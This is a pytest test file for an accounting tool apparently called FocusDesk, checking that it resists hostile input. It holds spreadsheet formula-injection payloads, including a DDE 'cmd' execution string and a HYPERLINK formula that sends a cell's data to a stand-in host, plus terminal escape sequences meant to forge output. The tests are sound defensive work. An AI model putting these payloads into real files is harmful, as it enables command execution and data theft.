"""Hostile text (issue 15): what a file or a command line can put into FocusDesk's text.

* every xlsx and CSV FocusDesk writes keeps outside text as text (never a formula);
* only ASCII digits are amounts (not "١٢٣٤" nor "１２３");
* a JSON key given twice, a ten-million-digit number, 1e999999999, a lone surrogate, an
  object where text belongs: one sentence, never "internal error";
* every text field has a bound, declared once (`workbook.TEXT_LIMITS`);
* outside text printed to a terminal is escaped (no raw line breaks, no ANSI escapes);
* a UTF-16 CSV that is not, a spreadsheet number inf/NaN/1e308, a column past XFD: one
  sentence.

Large inputs are generated here, never committed. The commands run in this process
through `focusdesk.cli.main` (their output captured), except where the terminal itself
matters: there they run as processes, as users run them.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import subprocess
import sys
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from focusdesk.base.money import AmountError, parse_amount
from focusdesk.base.safetext import FORMULA_LEADING, csv_cell, csv_uncell, quoted, shown
from focusdesk.cli import main
from focusdesk.document.store import load, save
from focusdesk.model.workbook import (
    TEXT_LIMITS,
    Firm,
    MappingRow,
    StoredFiling,
    TBRow,
    TrialBalance,
    Workbook,
    WorkbookError,
)
from focusdesk.tb import TBError
from focusdesk.tb.detect import column_index
from focusdesk.tb.mapping import Mapping

ROOT = Path(__file__).resolve().parents[2]
PACKAGE = ROOT / "focusdesk"

# Accounts a hostile trial balance or mapping may hold: each a live formula, or
# formula-leading, in a spreadsheet that takes a CSV cell as typed — and two that start
# with an apostrophe of their own.
INJECTIONS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.invalid/?"&A1,"click")', "+1010",
              "-1010", "@SUM(A1:A9)", "=1+1", "'quoted", "'=2", "''=3", "1010"]


def cli(capsys, *argv: object) -> tuple[int, str, str]:
    code = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return code, out, err


def refused(capsys, *argv: object, says: tuple[str, ...] = ()) -> str:
    """The command fails in one sentence (exit 1 or 2, one line on stderr, no traceback,
    no "internal error") that says each of `says`."""
    code, _, err = cli(capsys, *argv)
    assert code in (1, 2), (code, err)
    assert err.startswith("focusdesk: ") and err.count("\n") == 1, err
    assert "internal error" not in err and "Traceback" not in err, err
    for fragment in says:
        assert fragment in err, (fragment, err)
    return err


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture
def workbook(tmp_path) -> Path:
    wb = Workbook()
    wb.set_profile("firm.name", "Acme Securities")
    wb.set_item("JAN", "3950", Decimal(1000))
    wb.set_tb_mapping((MappingRow("1*", "3840"), MappingRow("9*", "3540")))
    path = tmp_path / "acme.focus"
    save(wb, path)
    return path


def _json(tmp_path: Path, text: str, name: str = "in.json") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


TB_COLUMNS = ("--header-row", 1, "--account-col", "A", "--description-col", "B",
              "--balance-col", "C")


def _tb_csv(tmp_path: Path, rows: list[list[str]], name: str = "tb.csv") -> Path:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(
        [["Account", "Description", "Balance"], *rows])
    path = tmp_path / name
    path.write_text(buf.getvalue(), encoding="utf-8")
    return path


# -- 1. every xlsx and CSV writer keeps outside text as text --------------------------------

def _mapping_workbook(tmp_path: Path) -> Path:
    wb = Workbook()
    wb.set_item("JAN", "3501", Decimal(1))
    wb.set_tb_mapping(tuple(MappingRow(a, "3840") for a in INJECTIONS))
    wb.set_trial_balance("JAN", TrialBalance(
        "tb.xlsx", "ab" * 32, tuple(TBRow(a, a, Decimal(n)) for n, a in enumerate(INJECTIONS))))
    path = tmp_path / "hostile.focus"
    save(wb, path)
    return path


def _xlsx_formulas(path: Path) -> list[str]:
    """The formulas an .xlsx holds, read from its sheets' XML."""
    with zipfile.ZipFile(path) as z:
        return [f for name in z.namelist() if name.startswith("xl/worksheets/")
                for f in re.findall(r"<f>([^<]*)</f>", z.read(name).decode())]


def _imported_accounts(tmp_path: Path, capsys, mapping: Path) -> list[str]:
    """The accounts `mapping-import` reads from `mapping` into a new workbook."""
    target = tmp_path / "other.focus"
    save(Workbook(), target)
    assert cli(capsys, "mapping-import", target, mapping)[0] == 0
    return [r.account for r in load(target)[0].tb_mapping]


def test_mapping_export_csv_writes_no_formula_and_reads_back_the_same_accounts(tmp_path,
                                                                                capsys):
    source = _mapping_workbook(tmp_path)
    out = tmp_path / "mapping.csv"
    assert cli(capsys, "mapping-export", source, out)[0] == 0
    cells = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    accounts = [row[0] for row in cells[1:]]
    for cell in accounts:  # none would run in a spreadsheet that opens the CSV
        assert not cell.startswith(FORMULA_LEADING), cell
    assert "'=cmd|' /C calc'!A0" in accounts and "'quoted" in accounts
    assert "''=2" in accounts  # an apostrophe of its own is kept: one more is added
    assert _imported_accounts(tmp_path, capsys, out) == INJECTIONS


def test_mapping_export_xlsx_writes_text_cells_only(tmp_path, capsys):
    from openpyxl import load_workbook

    source = _mapping_workbook(tmp_path)
    out = tmp_path / "mapping.xlsx"
    assert cli(capsys, "mapping-export", source, out)[0] == 0
    assert _xlsx_formulas(out) == []  # today: cmd|' /C calc'!A0 and HYPERLINK(…)
    ws = load_workbook(out)["Mapping"]
    column = [ws.cell(r, 1) for r in range(2, 2 + len(INJECTIONS))]
    assert [c.value for c in column] == INJECTIONS
    assert all(c.data_type == "s" for c in column)
    assert _imported_accounts(tmp_path, capsys, out) == INJECTIONS


def test_excel_export_writes_trial_balance_and_mapping_text_as_text(tmp_path, capsys):
    source = _mapping_workbook(tmp_path)
    out = tmp_path / "export.xlsx"
    assert cli(capsys, "export-xlsx", source, "-o", out)[0] == 0
    formulas = _xlsx_formulas(out)
    assert formulas  # the computed lines are live formulas …
    for text in INJECTIONS:  # … but no outside text is one
        assert text.removeprefix("=") not in formulas


def test_every_xlsx_and_csv_writer_goes_through_safetext():
    """One function writes outside text to a spreadsheet (`put_text`) and one to a CSV
    (`write_csv`): a module that writes either another way is a writer left out."""
    for path in PACKAGE.rglob("*.py"):
        if "generated" in path.parts or path.name == "safetext.py":
            continue
        source = path.read_text(encoding="utf-8")
        name = path.relative_to(ROOT)
        assert "csv.writer" not in source and "DictWriter" not in source, \
            f"{name} writes a CSV without safetext.write_csv"
        if re.search(r"from openpyxl import .*Workbook", source):
            assert "put_text" in source, f"{name} writes an xlsx without safetext.put_text"
            assert not re.search(r"\bws\.append\(|\.append\(line\)", source), name


@given(st.text(alphabet=st.sampled_from("='+-@\t\rab1 \"")))
def test_csv_cell_round_trips_and_never_leads_with_a_formula(text):
    cell = csv_cell(text)
    assert csv_uncell(cell) == text
    assert not cell.startswith(FORMULA_LEADING) or cell in ("+", "-")


def test_csv_cell_leaves_ordinary_text_alone():
    for text in ("1010", "Cash", "'quoted", "", "+", "-", "a=b"):
        assert csv_cell(text) == text == csv_uncell(text)
    assert csv_cell("\t=1") == "'\t=1" and csv_cell("\r=1") == "'\r=1"


# -- 2. only ASCII digits are amounts ---------------------------------------------------------

@pytest.mark.parametrize("text", ["١٢٣٤", "１２３", "1,２３4", "٠.٥", "(١٢)", "۱۲۳", "१२३"])
def test_other_digits_are_not_amounts(text):
    with pytest.raises(AmountError, match="is not an amount"):
        parse_amount(text)


def test_json_amounts_and_year_in_other_digits_are_refused(tmp_path, capsys):
    doc = _json(tmp_path, '{"months": {"JAN": {"items": {"3950": "١٢٣٤"}}}}')
    refused(capsys, "compute", doc, says=("in.json.months.JAN.items.3950",
                                          "is not an amount"))
    doc = _json(tmp_path, '{"minimum_dollar": "１２３"}')
    refused(capsys, "compute", doc, says=("minimum_dollar",))
    doc = _json(tmp_path, '{"year": "２０２５"}')
    refused(capsys, "compute", doc, says=("in.json.year",))


def test_trial_balance_amounts_in_other_digits_are_refused(tmp_path, workbook, capsys):
    before = digest(workbook)
    for amount in ("١٠٠", "１００", "１,０００.５０ CR"):
        tb = _tb_csv(tmp_path, [["1010", "Cash", amount]])
        refused(capsys, "import-tb", workbook, tb, "--month", "JAN", *TB_COLUMNS,
                says=("tb.csv", "row 2", "column C"))
    assert digest(workbook) == before


def test_options_in_other_digits_are_refused(tmp_path, workbook, capsys):
    tb = _tb_csv(tmp_path, [["1010", "Cash", "100"]])
    with pytest.raises(TBError):
        column_index("３")
    with pytest.raises(SystemExit):  # argparse: the usage and the reason
        main(["import-tb", str(workbook), str(tb), "--month", "JAN", "--header-row", "３"])
    with pytest.raises(SystemExit):
        main(["new", str(tmp_path / "n.focus"), "--firm", "X", "--year", "٢٠٢٥"])
    capsys.readouterr()


def test_accounts_in_other_digits_are_text_not_numbers():
    ranges = Mapping((MappingRow("١٠١٠-١٠٢٠", "3840"),))
    assert ranges.rules[0].kind == "exact" and ranges.match("1015") is None
    ascii_range = Mapping((MappingRow("1010-1020", "3840"),))
    assert ascii_range.match("1015") is not None
    assert ascii_range.match("１０１５") is None and ascii_range.match("١٠١٥") is None


# -- 3. duplicate JSON keys ------------------------------------------------------------------

def test_a_key_given_twice_is_refused_naming_it(tmp_path, workbook, capsys):
    before = digest(workbook)
    doc = _json(tmp_path, '{"months": {"JAN": {"items": {"3950": "5"}}}, "months": {}}')
    refused(capsys, "compute", doc, says=("in.json", "'months'", "twice"))
    refused(capsys, "import-json", workbook, doc, says=("'months'",))
    doc = _json(tmp_path, '{"months": {"JAN": {"items": {"3950": "5", "3950": "6"}}}}')
    refused(capsys, "import-json", workbook, doc, says=("'3950'", "twice"))
    doc = _json(tmp_path, '{"firm": {"name": "A", "name": "B"}}')
    refused(capsys, "pdf", doc, "-o", tmp_path / "x.pdf", says=("'name'",))
    assert digest(workbook) == before and not (tmp_path / "x.pdf").exists()


# -- 4. numbers and text JSON allows and no workbook can mean -----------------------------------

@pytest.mark.parametrize(("body", "says"), [
    ('{"minimum_dollar": ' + "9" * 10_000_000 + "}", ("10,000,000 characters",)),
    ('{"minimum_dollar": 1e999999999}', ("minimum_dollar", "too large")),
    ('{"minimum_dollar": -1E+999999999}', ("minimum_dollar", "too large")),
    ('{"months": {"JAN": {"items": {"3950": 1e999999999}}}}', ("items.3950", "too large")),
    ('{"months": {"JAN": {"schedule_b": {"1": {"I": 1e999999999}}}}}', ("schedule_b.1.I",)),
    ('{"minimum_dollar": 1e-999999999}', ("minimum_dollar", "decimal places")),
    ('{"minimum_dollar": "' + "9" * 100_000 + '"}', ("minimum_dollar", "too large")),
    ('{"minimum_dollar": "0.' + "0" * 100_000 + '1"}', ("minimum_dollar",)),
    ('{"year": 1e999999999}', ("year",)),
    ('{"year": "' + "9" * 5000 + '"}', ("year",)),
    ('{"firm": {"name": "Acme \\ud800"}}', ("'name'", "surrogate")),
    ('{"firm": {"\\udfff": "x"}}', ("surrogate",)),
    ('{"checks": ["\\ud800"]}', ("'checks'", "surrogate")),
    ('{"method": {"a": 1}}', ("method",)),
    ('{"method": ["alternative"]}', ("method",)),
    ('{"minimum_dollar": NaN}', ("NaN",)),
    ('{"minimum_dollar": -Infinity}', ("-Infinity",)),
], ids=["10M digits", "1e999999999", "-1E+999999999", "item 1e999999999",
        "schedule B 1e999999999", "1e-999999999", "100k-digit text", "100k decimals",
        "year 1e999999999", "year 5000 digits", "lone surrogate", "surrogate key",
        "surrogate in a list", "object as method", "list as method", "NaN", "-Infinity"])
def test_json_numbers_and_text_beyond_reason_are_one_sentence(tmp_path, workbook, capsys,
                                                               body, says):
    doc = _json(tmp_path, body)
    before = digest(workbook)
    err = refused(capsys, "compute", doc, says=says)
    assert len(err) < 400  # a sentence, not the ten million digits
    refused(capsys, "import-json", workbook, doc, says=says)
    assert digest(workbook) == before


# -- 5. every text field has a bound ------------------------------------------------------------

def test_the_bounds_are_declared_once_for_every_firm_field():
    assert {f"firm.{f}" for f in Firm.FIELDS} <= set(TEXT_LIMITS)
    assert {"account", "description", "mapping", "file_name", "sheet"} <= set(TEXT_LIMITS)


def test_a_50_mb_firm_name_is_refused_before_it_reaches_the_form(tmp_path, workbook, capsys):
    doc = tmp_path / "big.json"
    doc.write_text(json.dumps({"firm": {"name": "A" * 50_000_000}}), encoding="utf-8")
    before = digest(workbook)
    says = ("big.json", "the firm name is 50,000,000 characters long", "at most 150")
    refused(capsys, "import-json", workbook, doc, says=says)
    refused(capsys, "pdf", doc, "-o", tmp_path / "big.pdf", says=says)
    assert digest(workbook) == before and not (tmp_path / "big.pdf").exists()


@pytest.mark.parametrize("field", Firm.FIELDS)
def test_each_firm_field_holds_its_bound_and_not_one_more(tmp_path, capsys, field):
    limit = TEXT_LIMITS[f"firm.{field}"]
    fits = _json(tmp_path, json.dumps({"firm": {field: "8" * limit.chars}}))
    code, out, _ = cli(capsys, "compute", fits)
    assert code == 0 and json.loads(out)["firm"][field] == "8" * limit.chars
    over = _json(tmp_path, json.dumps({"firm": {field: "8" * (limit.chars + 1)}}))
    refused(capsys, "compute", over, says=(f"in.json: {limit.what} is",
                                           f"at most {limit.chars}"))


def test_new_refuses_a_firm_name_longer_than_the_form_holds(tmp_path, capsys):
    target = tmp_path / "n.focus"
    refused(capsys, "new", target, "--firm", "N" * 151, "--year", 2025,
            says=("the firm name is 151 characters long",))
    assert not target.exists()


def test_import_xlsx_refuses_a_firm_field_longer_than_the_form_holds(tmp_path, workbook,
                                                                      capsys):
    from openpyxl import load_workbook

    from focusdesk.formats.xlsx.sheet_format import SHEET_SETTINGS, layout

    exported = tmp_path / "export.xlsx"
    assert cli(capsys, "export-xlsx", workbook, "-o", exported)[0] == 0
    book = load_workbook(exported)
    row = layout(Workbook().form).settings_rows["firm.preparer"]
    book[SHEET_SETTINGS].cell(row, 2).value = "P" * 101
    book.save(exported)
    before = digest(workbook)
    refused(capsys, "import-xlsx", workbook, exported,
            says=(f"Settings!B{row} (firm.preparer)", "101 characters"))
    assert digest(workbook) == before


def test_trial_balance_accounts_and_descriptions_are_bounded(tmp_path, workbook, capsys):
    before = digest(workbook)
    tb = _tb_csv(tmp_path, [["1010", "Cash", "1"], ["1" * 101, "Bank", "2"]])
    refused(capsys, "import-tb", workbook, tb, "--month", "JAN", *TB_COLUMNS,
            says=("row 3, column A", "an account number is 101 characters long"))
    tb = _tb_csv(tmp_path, [["1010", "D" * 501, "1"]])
    refused(capsys, "import-tb", workbook, tb, "--month", "JAN", *TB_COLUMNS,
            says=("row 2, column B", "an account description is 501 characters"))
    assert digest(workbook) == before


def test_mapping_accounts_are_bounded(tmp_path, workbook, capsys):
    mapping = tmp_path / "map.csv"
    mapping.write_text(f"account,item\n1010,3840\n{'1' * 211},3840\n", encoding="utf-8")
    refused(capsys, "mapping-import", workbook, mapping,
            says=("map.csv, row 3", "211 characters"))
    with pytest.raises(WorkbookError, match=r"mapping rule 1: .* 211 characters"):
        Workbook().set_tb_mapping((MappingRow("1" * 211, "3840"),))


def test_stored_file_names_are_bounded():
    wb = Workbook()
    with pytest.raises(WorkbookError, match="a file name is 256 characters long"):
        wb.set_trial_balance("JAN", TrialBalance("t" * 256, "0" * 64, ()))
    with pytest.raises(WorkbookError, match="a file name is 256 characters long"):
        wb.set_filings((StoredFiling("f" * 256, "0" * 64, b"", "2025-01-31"),))
    assert not wb.trial_balances and not wb.filings


def test_the_window_s_firm_fields_hold_what_the_form_holds(window):
    for name, edit in window.firm_edits().items():
        assert edit.maxLength() == TEXT_LIMITS[f"firm.{name}"].chars, name


# -- 6. outside text on a terminal is escaped ----------------------------------------------------

def _process(*args: object, cwd: Path) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PYTHONPATH": str(ROOT), "PYTHONIOENCODING": "utf-8"}
    return subprocess.run([sys.executable, "-m", "focusdesk", *map(str, args)], cwd=cwd,
                          capture_output=True, text=True, encoding="utf-8", env=env,
                          timeout=120)


def test_shown_escapes_what_a_terminal_would_act_on():
    assert shown("a\nb\r\tc") == "a\\nb\\r\\tc"
    assert shown("\x1b[2J\x9b31m\x07") == "\\x1b[2J\\x9b31m\\x07"
    assert shown("abc\u202edcba\u2066") == "abc\\u202edcba\\u2066"
    assert shown("half \ud800") == "half \\ud800"
    assert shown("Société Générale, 東京 — 1,234") == "Société Générale, 東京 — 1,234"
    assert quoted("x" * 1000).endswith("(1,000 characters)'")


def test_import_tb_prints_file_names_accounts_and_descriptions_escaped(tmp_path, workbook):
    name = "tb\x1b[2J\nFAKE.csv"
    tb = _tb_csv(tmp_path, [["1010", "Cash", "100"],
                            ["5\x1b[31m0\n10", "Rent\x1b]0;owned\x07\r\nline 23a 1,000,000",
                             "7"]], name=name)
    proc = _process("import-tb", workbook, tb, "--month", "JAN", "--dry-run", *TB_COLUMNS,
                    cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    out = proc.stdout
    assert "\x1b" not in out and "\x07" not in out and "\r" not in out, out
    assert "tb\\x1b[2J\\nFAKE.csv" in out
    assert "5\\x1b[31m0\\n10" in out and "Rent\\x1b]0;owned\\x07\\r\\nline 23a" in out
    # one line per line of the summary: the unmapped account forged none
    assert not any(line.startswith(("FAKE", "10", "line 23a")) for line in out.splitlines())


def test_error_messages_echo_outside_text_escaped(tmp_path, workbook):
    proc = _process("compute", "no\nsuch\x1b[1m.json", cwd=tmp_path)
    assert proc.returncode == 2
    assert proc.stderr.count("\n") == 1 and "\x1b" not in proc.stderr
    assert "no\\nsuch\\x1b[1m.json" in proc.stderr
    bad = _tb_csv(tmp_path, [["1010", "Cash", "12\x1b[5mabc"]])
    proc = _process("import-tb", workbook, bad, "--month", "JAN", *TB_COLUMNS, cwd=tmp_path)
    assert proc.returncode == 2 and proc.stderr.count("\n") == 1
    assert "\x1b" not in proc.stderr and "\\x1b[5m" in proc.stderr


def test_tb_accounts_prints_accounts_escaped(tmp_path, workbook, capsys):
    tb = _tb_csv(tmp_path, [["1\x1b[31m010", "Cash\nline 38 999", "100"]])
    assert cli(capsys, "import-tb", workbook, tb, "--month", "JAN", *TB_COLUMNS)[0] == 0
    code, out, _ = cli(capsys, "tb-accounts", workbook, "--month", "JAN", "--item", "3840")
    assert code == 0 and "\x1b" not in out
    assert "1\\x1b[31m010" in out and "Cash\\nline 38 999" in out


# -- 7. one sentence, never "internal error" --------------------------------------------------

@pytest.mark.parametrize("content", [
    b"\xff\xfeA\x00,\x00B",  # UTF-16 LE with an odd length
    b"\xfe\xff\x00A\x00,\x00B\x00",  # UTF-16 BE with an odd length
    b"\xff\xfe\x00\xd8A\x00,\x00B\x00\n\x00",  # a high surrogate without its low half
    b"\xff\xfe\x00\xdcA\x00",  # a low surrogate alone
], ids=["LE odd", "BE odd", "high alone", "low alone"])
def test_a_csv_with_a_utf16_mark_that_is_not_utf16_is_one_sentence(tmp_path, workbook,
                                                                   capsys, content):
    path = tmp_path / "tb.csv"
    path.write_bytes(content)
    before = digest(workbook)
    refused(capsys, "import-tb", workbook, path, "--month", "JAN",
            says=("tb.csv", "UTF-16"))
    refused(capsys, "mapping-import", workbook, path, says=("tb.csv", "UTF-16"))
    assert digest(workbook) == before


def _patch_xlsx(path: Path, cell: str, value: str) -> None:
    """Set the stored value of `cell` on the first worksheet to `value`, as a hostile
    file would hold it (``<v>inf</v>``), keeping every other byte of the package."""
    with zipfile.ZipFile(path) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    sheet = min(n for n in parts if n.startswith("xl/worksheets/sheet"))
    xml, count = re.subn(rf'(<c r="{cell}"[^>]*>)(?:<f>[^<]*</f>)?<v>[^<]*</v>',
                         rf"\g<1><v>{value}</v>", parts[sheet].decode())
    assert count == 1, cell
    parts[sheet] = xml.encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for n, data in parts.items():
            z.writestr(n, data)


@pytest.mark.parametrize("value", ["inf", "-inf", "NaN", "1e308", "-1.7976931348623157e308"])
def test_a_trial_balance_number_cell_beyond_reason_is_one_sentence(tmp_path, workbook, capsys,
                                                                  value):
    from openpyxl import Workbook as XWorkbook

    book = XWorkbook()
    ws = book.active
    ws.title = "TB"
    ws.append(["Account", "Description", "Balance"])
    for n in range(20):
        ws.append([str(1010 + n), f"Account {n}", 1000.0 + n])
    path = tmp_path / "tb.xlsx"
    book.save(path)
    _patch_xlsx(path, "C5", value)
    before = digest(workbook)
    refused(capsys, "import-tb", workbook, path, "--month", "JAN",
            says=("tb.xlsx, sheet 'TB', row 5, column C",))
    assert digest(workbook) == before


@pytest.mark.parametrize("value", ["inf", "NaN", "1e308"])
def test_an_import_xlsx_number_cell_beyond_reason_is_one_sentence(tmp_path, workbook, capsys,
                                                                 value):
    from focusdesk.formats.xlsx.sheet_format import layout

    exported = tmp_path / "export.xlsx"
    assert cli(capsys, "export-xlsx", workbook, "-o", exported)[0] == 0
    cell = layout(Workbook().form).a_cell("JAN", "3950").replace("$", "")
    _patch_xlsx(exported, cell, value)
    before = digest(workbook)
    err = refused(capsys, "import-xlsx", workbook, exported, says=(f"Schedule A!{cell}",))
    assert "decimal.InvalidOperation" not in err and len(err) < 200
    assert digest(workbook) == before


@pytest.mark.parametrize("option", [
    ("--balance-col", "9" * 5000), ("--balance-col", "16385"), ("--balance-col", "XFE"),
    ("--balance-col", "16000"), ("--account-col", "9" * 5000),
    ("--description-col", "1" + "0" * 30), ("--debit-col", "99999", "--credit-col", "C"),
    ("--sheet", "9" * 5000), ("--sheet", "0"),
], ids=["5000 digits", "past XFD", "XFE", "past the data", "account", "description",
        "debit", "sheet 5000 digits", "sheet 0"])
def test_column_and_sheet_options_beyond_reason_are_one_sentence(tmp_path, workbook, capsys,
                                                                 option):
    tb = _tb_csv(tmp_path, [["1010", "Cash", "100"], ["1020", "Bank", "-100"]])
    before = digest(workbook)
    err = refused(capsys, "import-tb", workbook, tb, "--month", "JAN", *option)
    assert len(err) < 400
    assert digest(workbook) == before
